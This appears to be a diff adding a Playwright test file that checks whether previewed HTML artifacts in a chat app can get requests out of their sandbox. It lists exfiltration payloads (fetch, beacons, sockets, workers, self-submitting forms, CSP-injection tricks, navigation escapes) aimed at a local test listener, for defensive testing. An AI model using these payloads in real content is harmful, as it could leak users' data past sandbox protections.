@@ -1,0 +1,146 @@
+/**
+ * Hostile previews: artifacts written to get their requests out of the sandbox, each previewed while a loopback
+ * listener records every HTTP request and connection that reaches it. No request may arrive; a page that tries
+ * to navigate away is replaced by a notice saying where it tried to go.
+ */
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { expect, type Page, test } from "@playwright/test";
+import { fence, openSession } from "./helpers";
+
+let listener: Server;
+let base = "";
+const requests: string[] = [];
+
+test.beforeAll(async () => {
+  listener = createServer((request, response) => {
+    requests.push(`${request.method} ${request.url}`);
+    response.setHeader("access-control-allow-origin", "*");
+    response.end("leaked");
+  });
+  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
+  base = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
+});
+
+test.afterAll(() => new Promise<void>((resolve) => listener.close(() => resolve())));
+
+/** Imports one HTML artifact into a new session, previews it, and gives the requests the listener saw. */
+async function preview(page: Page, name: string, html: string) {
+  const path = await openSession(page);
+  const response = await page.request.post(`/api/sessions${path.slice(2)}/messages`, {
+    data: { role: "assistant", content: `${fence}html title="${name}"\n${html}\n${fence}\n` },
+  });
+  expect(response.status()).toBe(201);
+  const card = page.getByRole("article", { name });
+  await card.getByRole("button", { name: "Preview" }).click();
+  return card;
+}
+
+/** Every way out we know of, each in a document shaped to slip past a policy spliced into its text. */
+const attempts = (url: string): [string, string][] => [
+  [
+    "commented head",
+    `<!-- <head> --><!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="default-src *"></head><body><img src="${url}/img-commented-head"></body></html>`,
+  ],
+  [
+    "misplaced head",
+    `<!doctype html><html><body><head><meta http-equiv="Content-Security-Policy" content="default-src *"></head><img src="${url}/img-misplaced-head"></body></html>`,
+  ],
+  [
+    "script before html",
+    `<script>fetch("${url}/fetch-before-html").catch(() => {})</script><!doctype html><html><head></head><body>x</body></html>`,
+  ],
+  [
+    "fetch and XHR",
+    `<script>fetch("${url}/fetch", { mode: "no-cors" }).catch(() => {}); const x = new XMLHttpRequest(); x.open("GET", "${url}/xhr"); x.send();</script>`,
+  ],
+  [
+    "CSS url and @import",
+    `<style>@import url("${url}/import.css"); body { background: url("${url}/background.png"); } @font-face { font-family: f; src: url("${url}/font.woff"); } p { font-family: f; }</style><p>text</p>`,
+  ],
+  [
+    "srcset and picture",
+    `<img srcset="${url}/srcset.png 1x, ${url}/srcset2.png 2x"><picture><source srcset="${url}/source.png"><img src="data:,"></picture>`,
+  ],
+  [
+    "prefetch, preload and friends",
+    `<link rel="prefetch" href="${url}/prefetch"><link rel="preload" as="image" href="${url}/preload"><link rel="stylesheet" href="${url}/sheet.css"><link rel="icon" href="${url}/icon.png"><link rel="modulepreload" href="${url}/module.js">`,
+  ],
+  [
+    "external scripts and frames",
+    `<script src="${url}/script.js"></script><iframe src="${url}/iframe"></iframe><object data="${url}/object"></object><embed src="${url}/embed"><video src="${url}/video.mp4" autoplay></video><audio src="${url}/audio.mp3" autoplay></audio>`,
+  ],
+  [
+    "a form that submits itself",
+    `<form action="${url}/form" method="post"><input name="secret" value="s3cret"></form><script>document.forms[0].submit()</script>`,
+  ],
+  ["sendBeacon", `<script>try { navigator.sendBeacon("${url}/beacon", "s3cret") } catch {}</script>`],
+  [
+    "WebSocket and EventSource",
+    `<script>try { new WebSocket("${url.replace("http", "ws")}/socket") } catch {} try { new EventSource("${url}/events") } catch {}</script>`,
+  ],
+  [
+    "a worker",
+    `<script>try { new Worker("${url}/worker.js") } catch {} try { new Worker(URL.createObjectURL(new Blob(["fetch('${url}/from-worker')"]))) } catch {}</script>`,
+  ],
+  [
+    "window.open and a top link",
+    `<a id="top" href="${url}/top" target="_top">top</a><script>try { window.open("${url}/popup") } catch {} document.getElementById("top").click();</script>`,
+  ],
+  ["a base href", `<base href="${url}/"><img src="relative.png">`],
+];
+
+test("no hostile document gets a request out of its preview", async ({ page }) => {
+  for (const [name, html] of attempts(base)) {
+    requests.length = 0;
+    const card = await preview(page, name, html);
+    const frame = card.getByTitle(`Preview: ${name}`);
+    await expect(frame).toBeVisible();
+    // Give every request the document could make time to arrive, then look: nothing may have.
+    await page.waitForTimeout(750);
+    expect(requests, name).toEqual([]);
+  }
+});
+
+test("a preview that navigates itself away is stopped and replaced by a notice saying where it tried to go", async ({
+  page,
+}) => {
+  const navigations: [string, string][] = [
+    ["location assignment", `<script>location = "${base}/location?secret=s3cret"</script>`],
+    ["meta refresh", `<meta http-equiv="refresh" content="0;url=${base}/refresh">`],
+    [
+      "a link clicked",
+      `<a id="go" href="${base}/link">go</a><script>document.getElementById("go").click()</script>`,
+    ],
+    // Replacing its own document drops the frame's guard; the app's frame-src still stops the navigation.
+    [
+      "document.open first",
+      `<script>document.open(); document.write('<script>location = "${base}/after-open"<\\/script>'); document.close();</script>`,
+    ],
+    ["back to the app", `<script>location = "/"</script>`],
+  ];
+  for (const [name, html] of navigations) {
+    requests.length = 0;
+    const card = await preview(page, name, html);
+    const notice = card.getByRole("alert").filter({ hasText: "This preview tried to leave its page" });
+    await expect(notice, name).toBeVisible();
+    if (name !== "back to the app") await expect(notice).toContainText(base);
+    expect(requests, name).toEqual([]);
+    // It can be run again, and is stopped again.
+    await notice.getByRole("button", { name: "Run again" }).click();
+    await expect(card.getByRole("alert").filter({ hasText: "tried to leave" })).toBeVisible();
+  }
+});
+
+test("an ordinary preview is not mistaken for one that left", async ({ page }) => {
+  const card = await preview(
+    page,
+    "anchors.html",
+    `<!doctype html><html><body><a href="#below">down</a><h1 id="below">Below</h1><script>location.hash = "below"</script></body></html>`,
+  );
+  const frame = card.getByTitle("Preview: anchors.html").contentFrame();
+  await expect(frame.getByRole("heading", { name: "Below" })).toBeVisible();
+  await frame.getByRole("link", { name: "down" }).click();
+  await page.waitForTimeout(500);
+  await expect(card.getByRole("alert")).toHaveCount(0);
+});
